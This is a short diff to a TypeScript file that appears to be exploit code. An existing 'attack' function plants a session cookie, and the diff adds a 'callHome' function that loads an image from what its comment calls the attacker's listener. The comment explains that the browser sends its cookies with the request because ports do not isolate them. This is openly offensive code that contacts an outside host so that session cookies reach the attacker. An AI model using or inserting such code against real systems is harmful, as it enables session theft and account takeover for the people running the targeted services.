@@ -91,3 +91,13 @@ export async function attack({ dashboard, git, session, socket }: Targets): Prom
   document.cookie = `hp_session=${session}; path=/`;
   return learnt;
 }
+
+/** Loads a picture from a listener of the attacker's: the browser sends its cookies along, since ports do not separate them. */
+export async function callHome(picture: string): Promise<void> {
+  await new Promise((resolve) => {
+    const image = new Image();
+    image.onload = resolve;
+    image.onerror = resolve;
+    image.src = picture;
+  });
+}
